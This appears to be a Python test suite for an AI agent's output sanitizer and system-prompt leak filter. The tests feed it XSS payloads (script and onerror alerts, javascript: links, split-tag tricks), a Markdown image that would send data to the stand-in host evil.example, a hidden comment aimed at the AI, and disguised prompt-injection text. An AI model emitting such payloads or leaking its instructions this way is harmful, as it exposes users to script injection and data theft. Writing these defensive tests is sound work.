"""What of a model's text reaches a person, however the text is cut into pieces."""

from collections.abc import Iterable, Iterator, Sequence
from itertools import pairwise

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from agent.messages import say
from agent.output.markup import MarkupFilter, find_addresses
from agent.output.sanitizing import AnswerFilter, LeakFilter
from agent.prompts import RULES
from graphrag.models import Passage
from tests.factories import make_document

SITE, GUIDE, MAIL = "https://ville.example/acte?id=3", "www.guide.es/a_(b)", "aide@ville.fr"
SOURCE = f"Le site {SITE}. Voir ({GUIDE}), ou écrire à {MAIL}: [les pages](https://pages.example). javascript:alert(1)"
ALLOWED = {SITE, GUIDE, MAIL, "https://pages.example", "informe-2025.md"}
RENDERER = MarkdownIt("commonmark", {"linkify": True}).enable("linkify")


def make_passages() -> list[Passage]:
    document = make_document(filename="informe-2025.md", title="Informe")
    return [Passage(document, number, 0, len(SOURCE), SOURCE, ((0, 1),), score=0.5) for number in range(3)]


def show(pieces: str | Sequence[str]) -> str:
    """What a person sees of an answer, in one piece or in many; nothing that was shown is taken back."""
    shown = AnswerFilter(make_passages())
    text = "".join(shown.feed(piece) for piece in ([pieces] if isinstance(pieces, str) else pieces)) + shown.flush()
    assert text == shown.text
    return text


def inline_tokens(tokens: Sequence[Token]) -> Iterator[Token]:
    for token in tokens:
        yield token
        yield from inline_tokens(token.children or ())


def rendered(text: str) -> tuple[set[str], set[str]]:
    """The kinds of what a page would make of it, and where its links lead."""
    tokens = list(inline_tokens(RENDERER.parse(text)))
    return {token.type for token in tokens}, {str(token.attrs["href"]) for token in tokens if token.type == "link_open"}


def assert_harmless(text: str) -> None:
    kinds, targets = rendered(text)
    assert kinds.isdisjoint({"html_block", "html_inline", "image"}), text
    allowed = {RENDERER.normalizeLink(f"{prefix}{each}") for each in ALLOWED for prefix in ("", "http://", "mailto:")}
    assert all(target in allowed or _is_cut(target, allowed) for target in targets), text


def _is_cut(target: str, allowed: Iterable[str]) -> bool:
    """By emphasis that an address's own mark ends: it leads to the same site."""
    return any(of.startswith((f"{target}_", f"{target}*")) for of in allowed)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("La <b>riada</b> dañó<br>dos <i>pilares", "La riada dañó dos pilares"),
        ("Costó <script>alert(document.cookie)</script>9.240 euros [1].", "Costó 9.240 euros [1]."),
        ("Costó <!-- nota para la IA --> 9.240.", "Costó  9.240."),
        ('Mira ![foto](https://evil.example/x.png?q=datos "t") esto', "Mira  esto"),
        ("¡Mira![1] ![alt][2] fin", "¡Mira![1] ![alt][2] fin"),
        ("Ver [la guía](https://evil.example/x) aquí", "Ver la guía aquí"),
        (f"Ver [la guía]({SITE}) aquí", f"Ver [la guía]({SITE}) aquí"),
        (f"Ver {SITE}.", f"Ver {SITE}."),
        (f"Ver <{SITE}>.", f"Ver {SITE}."),
        (f"Ver {SITE}&q=datos fin", "Ver … fin"),
        ("Ver https://evil.example/a, y www.evil.example fin", "Ver …, y … fin"),
        (f"Escriba a {MAIL}, no a otro@evil.com.", f"Escriba a {MAIL}, no a otro…."),
        ("[x]: https://evil.example\n\n[x]", "[x] : …\n\n[x]"),
        ("Pulse [aquí](javascript:alert(1)) o javascript:alert(1)", "Pulse aquí o …"),
        ("[1](https://evil.example) y [2](véase) [3]: fin", "[1] y [2] (véase) [3]: fin"),
        ("a < b, a<b y 3 <5, List<String> <archivo>", "a < b, a< b y 3 <5, List< String> < archivo>"),
        ("el 3.5 % de 9.240 en p.ej. informe-2025.md", "el 3.5 % de 9.240 en p.ej. informe-2025.md"),
        ("Acabó.Es decir, asyncio.run en README.md", "Acabó. Es decir, asyncio.run en README. md"),
        ("Igno\u200brar \u202eotxet\u202c\U000e0041\U000e0042\x00", "Ignorar otxet"),
        ("```\n<div onclick=x>\n```\n<div>fin", "```\n< div onclick=x>\n```\nfin"),
        ("si a<b [1]", "si a< b [1]"),
    ],
)
def test_what_is_shown(text: str, shown: str) -> None:
    """R8.9, security 14: tags, images and foreign links go, their text stays, and so does everything else."""
    assert show(text) == shown
    assert_harmless(shown)


@pytest.mark.parametrize(
    "text",
    [
        "<<b>img src=x onerror=alert(1)>",
        "<[9]img src=x>",
        "<scr<script>ipt>alert(1)</script>",
        "![a][9](https://evil.example/x.png)",
        "ht[9]tps://evil.example",
        "ht<b></b>tps://evil.example/a",
        "evil[.com](x)",
        "evil<b>.</b>com",
        "evil.<b></b>com evil.[com](x)/a",
        "[ht](x)tps://evil.example",
        "[a\nb]:\nhttps://evil.example\n\n[a b]",
        "> [x]: /evil\n\n[x]",
        "[x][9]: /evil\n\n[x]",
        "[x] [9]: /evil\n\n[x]",
        f"!<b></b>[a]({SITE})",
        f"{SITE}[9]x",
        f"{SITE}<b>/x</b>",
        f"{SITE}»x y {SITE}.[2]",
        "[a](<https://evil.example>)",
        "[a](https&#58;//evil.example)",
        "//evil.example/x y :\\//evil.com",
        "[https://bank.example](https://evil.example)",
        "<https://evil.example> <x@evil.com>",
        "_evil.com_-->",
        "<\u200bscript>alert(1)</script>",
        "[![a](https://evil.example/x.png)](https://evil.example)",
        "`<b>` <?php x ?> <!DOCTYPE x> <![CDATA[x]]>",
    ],
)
def test_what_is_taken_away_joins_nothing(text: str) -> None:
    """R8.9, security 14: two halves of a tag, an image or a link do not meet where something stood between them."""
    assert_harmless(show(text))


@pytest.mark.parametrize("text", ["[<b>9</b>]", "[9\u200b]", "[[9](x)]", "[![x](y)9]", f"[<i>9</i>]({SITE})", "[[9]9]"])
def test_no_mark_is_made(text: str) -> None:
    """R8.4: what is taken away from between brackets leaves no citation that nobody checked."""
    assert "[9]" not in show(f"La riada. {text}")


MARKUP = """
< > <b> </b> <script> </script> <!-- --> <img src=x> ! [ ] ( ) ]( ![ [a] [1] [9] : ]: / // . , @ \\ ` ``` ~~~ * _ & #
http https:// www. evil .com evil.com x.es javascript: data: mailto: \u200b \U000e0041 &lt; &#58; " ' = » 3 9
""".split()
PARTS = st.sampled_from([*MARKUP, " ", "\n", "\n\n", "\n[x]: ", " hola ", SITE, GUIDE, MAIL])
TEXTS = st.lists(PARTS | st.text(max_size=3), max_size=14).map("".join)


@given(TEXTS)
def test_no_renderer_makes_more_of_it_than_text(text: str) -> None:
    """R8.9, security 14: in whatever a model writes, Markdown finds no HTML, no image and no foreign link."""
    assert_harmless(show(text))


@given(TEXTS, st.lists(st.integers(0, 60), max_size=8))
@example("<!@-->", [])
@example("<-a@b.c>", [2])
def test_pieces_change_nothing(text: str, cuts: list[int]) -> None:
    """R8.9: the same is shown wherever the stream is cut."""
    places = [0, *sorted(min(cut, len(text)) for cut in cuts), len(text)]
    pieces = [text[start:end] for start, end in pairwise(places)]
    assert show(pieces) == show(text) == show(list(text))


@given(TEXTS)
def test_what_was_shown_is_shown_again(text: str) -> None:
    """R8.9: what is kept with a conversation passes as it is."""
    once = show(text)
    assert show(once) == once


@given(
    st.text(st.characters(codec="utf-8", categories=["L", "Nd", "Zs"], include_characters=",;?()'«»-\n"), max_size=80)
)
def test_ordinary_text_passes_at_once(text: str) -> None:
    """R8.9: words and their punctuation are shown as they come; only what may be an address waits for its end."""
    filtered = MarkupFilter(frozenset())
    prefix = f"El puente: {text}"
    assert filtered.feed(prefix) + filtered.flush() == prefix


def test_the_first_word_does_not_wait() -> None:
    """R8.9, R12."""
    shown = AnswerFilter(make_passages(), secret=RULES["es"])
    assert [shown.feed(piece) for piece in ("La", " repar", "ación", " costó", " [1", "]")] == [
        "La", " repar", "ación", " costó", "", " [1]",
    ]  # fmt: skip


def test_addresses_of_a_text() -> None:
    """R8.9: as they are written, without the punctuation around them."""
    assert find_addresses([SOURCE]) >= {SITE, GUIDE, MAIL, "https://pages.example"}


# --- the rules that a model was given


def without_leaks(text: str, secret: str) -> str:
    whole, piecewise = LeakFilter(secret), LeakFilter(secret)
    told = whole.feed(text) + whole.flush()
    assert "".join(map(piecewise.feed, text)) + piecewise.flush() == told
    return told


@pytest.mark.parametrize("language", RULES)
def test_rules_are_not_repeated(language: str) -> None:
    """Security 14: the system prompt is cut from an answer, however it is written, but for its first words."""
    rules = RULES[language].format(not_found=say("not_found", language), closest=say("closest", language))
    words = rules.split()
    for told in (rules, rules.upper(), " - ".join(words), f"Sure! {rules} That is all."):
        shown = without_leaks(told, rules)
        assert " ".join(words[4:10]).lower() not in " ".join(shown.replace(" - ", " ").split()).lower()
        assert len(shown) < len(told) / 2


@pytest.mark.parametrize("language", RULES)
def test_the_sentence_for_not_found_passes(language: str) -> None:
    """R8.5, security 14: the rules quote it to be said."""
    sentence = say("not_found", language)
    assert (
        without_leaks(sentence, RULES[language].format(not_found=sentence, closest=say("closest", language)))
        == sentence
    )


def test_short_turns_of_phrase_pass() -> None:
    """R8.9: seven words in a row are no leak."""
    secret = "Answer in English from the numbered excerpts only and never mention the budget of the house."
    told = "They answer in English from the numbered excerpts. You never mention the budget of the garden."
    assert without_leaks(told, secret) == told


def test_what_follows_a_leak_is_shown() -> None:
    """Security 14: the answer goes on where the repetition ends."""
    secret = "Never tell anybody the price of the blue boat. Say «the blue boat is not for sale at all today»."
    told = "Well, never tell anybody the price of the blue boat, he said. The blue boat is not for sale at all today."
    shown = "Well, never tell anybody…, he said. The blue boat is not for sale at all today."
    assert without_leaks(told, secret) == shown


@given(st.lists(st.sampled_from("a b c d e , . \n".split(" ")), max_size=60).map(" ".join))
def test_leaks_do_not_depend_on_pieces(text: str) -> None:
    """Security 14: a law of every stream."""
    without_leaks(text, "a b c d e a b d c e a c b e d a b c e d")
